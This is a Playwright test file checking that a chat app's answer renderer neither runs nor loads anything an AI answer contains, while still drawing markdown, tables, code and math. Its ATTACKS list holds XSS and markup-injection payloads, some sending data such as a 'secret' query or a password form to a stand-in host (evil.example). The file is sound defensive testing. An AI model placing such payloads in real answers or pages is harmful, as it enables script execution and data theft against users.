"""What an answer's text can do to a page: nothing. And what a reader gets: words, tables, code, formulas."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from .test_chat import ANSWER, finished, start_with

DRAW = """async ([text, streaming]) => {
  await customElements.whenDefined("nexus-response");
  const element = document.createElement("nexus-response");
  document.querySelector("#main").append(element);
  element.streaming = streaming;
  element.text = text;
  element.flush();
}"""

ATTACKS = [
    "<script>window.pwned = 1</script>",
    '<img src="x" onerror="window.pwned = 1">',
    '<img src="https://evil.example/a.png">',
    "![x](https://evil.example/b.png?q=secret)",
    "![x](javascript:window.pwned=1)",
    "[x](javascript:window.pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](//evil.example/c)",
    '<a href="https://evil.example" onmouseover="window.pwned=1" id="main" class="btn primary">Log in</a>',
    '<svg onload="window.pwned=1"><use href="https://evil.example/d.svg#x"></use></svg>',
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
    '<style>body { background: url("https://evil.example/e") }</style>',
    '<div style="background: url(https://evil.example/f)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/g.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<nexus-tool-call status="COMPLETED"></nexus-tool-call><nexus-image data-src="https://evil.example/h.png">h</nexus-image>',
    '```"><script>window.pwned=1</script>\ncode\n```',
    "$\\href{javascript:window.pwned=1}{x}$ $\\htmlStyle{background:url(https://evil.example/i)}{x}$",
]

ALLOWED = {
    "a", "b", "blockquote", "br", "button", "circle", "code", "del", "div", "em", "h3", "h4", "header", "hr", "input",
    "li", "nexus-code-block", "nexus-image", "nexus-math", "ol", "p", "path", "pre", "rect", "span", "strong", "sub",
    "sup", "svg", "table", "tbody", "td", "th", "thead", "tr", "ul", "use",
    "math", "mi", "mn", "mo", "mrow", "mtext", "msup", "msub", "mfrac", "mspace", "semantics", "annotation", "mstyle",
}  # fmt: skip


def draw(page: Page, text: str, *, streaming: bool = False) -> None:
    page.evaluate(DRAW, [text, streaming])


@pytest.mark.parametrize("streaming", [False, True])
@pytest.mark.parametrize("attack", ATTACKS)
def test_it_neither_runs_nor_loads_what_an_answer_says(home, attack, streaming):
    page, alice = home
    alice.elsewhere.clear()
    draw(page, f"Before.\n\n{attack}\n\nAfter.", streaming=streaming)
    page.wait_for_timeout(150)  # time for a load or a handler that must not come
    assert page.evaluate("window.pwned") is None
    assert alice.elsewhere == []
    inside = page.evaluate(
        """() => [...document.querySelector("nexus-response:last-of-type").querySelectorAll("*")].map((e) => ({
             tag: e.localName, on: [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style"),
             id: e.id, form: e.localName === "form" || e.localName === "button" && e.type === "submit",
             href: e.localName === "a" ? e.getAttribute("href") : null}))"""
    )
    assert {one["tag"] for one in inside} <= ALLOWED
    assert not any(one["on"] or one["form"] or one["id"] for one in inside)
    for one in inside:
        assert one["href"] is None or re.match(r"https?://|mailto:|/(?![/\\])|#", one["href"])


@pytest.fixture(scope="module")
def home(browser, server):
    """One page for all of these: each draws an element of its own."""
    from .conftest import Person

    context = browser.new_context(viewport={"width": 1440, "height": 900})
    alice = Person(context, server, "alice")
    alice.log_in()
    yield alice.page, alice
    context.close()


def test_it_draws_markdown_as_readers_expect(home):
    page, _ = home
    draw(
        page,
        "# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n- [x] done\n\n$e^{i\\pi}$ and $5 or $6",
    )
    answer = page.locator("nexus-response").last
    expect(answer.locator("table td[align=right]")).to_have_text("2")
    expect(answer.locator("nexus-code-block header")).to_contain_text("python")
    expect(answer.locator("nexus-code-block [data-c]").first).to_be_visible()
    expect(answer.locator("nexus-math math")).to_have_count(1)
    expect(answer).to_contain_text("$5 or $6")
    expect(answer.locator("input[type=checkbox]")).to_be_checked()


def test_it_keeps_the_nodes_of_a_block_that_grows(home):
    page, _ = home
    draw(page, "First paragraph.\n\nSecond **par", streaming=True)
    grown = page.evaluate(
        """() => {
          const element = document.querySelector("nexus-response:last-of-type");
          const [first, second] = element.querySelectorAll("p");
          element.text = "First paragraph.\\n\\nSecond **paragraph** grows";
          element.flush();
          const after = element.querySelectorAll("p");
          return [after[0] === first, after[1] === second, after[1].textContent];
        }"""
    )
    assert grown == [True, True, "Second paragraph grows"]


def test_it_offers_no_copy_before_the_fence_closes(home):
    page, _ = home
    draw(page, "```js\nconst a = 1;\n", streaming=True)
    answer = page.locator("nexus-response").last
    expect(answer.locator("[data-copy]")).to_be_hidden()
    page.evaluate(
        """() => { const e = document.querySelector("nexus-response:last-of-type");
                   e.text += "const b = 2;\\n```\\n"; e.streaming = false; e.flush(); }"""
    )
    expect(answer.locator("[data-copy]")).to_be_visible()
    assert answer.locator("code").inner_text().strip() == "const a = 1;\nconst b = 2;"


def test_it_shows_a_persons_markup_as_text(people):
    alice = people["alice"]
    start_with(alice.page, "demo-agent")
    text = '<img src=x onerror="window.pwned=1"> **not bold**'
    alice.ask(text)
    alice.page.wait_for_url(re.compile(r"/c/"))
    finished(alice.page)
    for _ in range(2):  # as the browser draws it, then as the server does
        expect(alice.page.locator("nexus-message[from=user] .md")).to_have_text(text)
        assert alice.page.evaluate("window.pwned") is None
        alice.page.reload()
    expect(alice.page.locator(f"{ANSWER} nexus-response")).not_to_have_count(0)
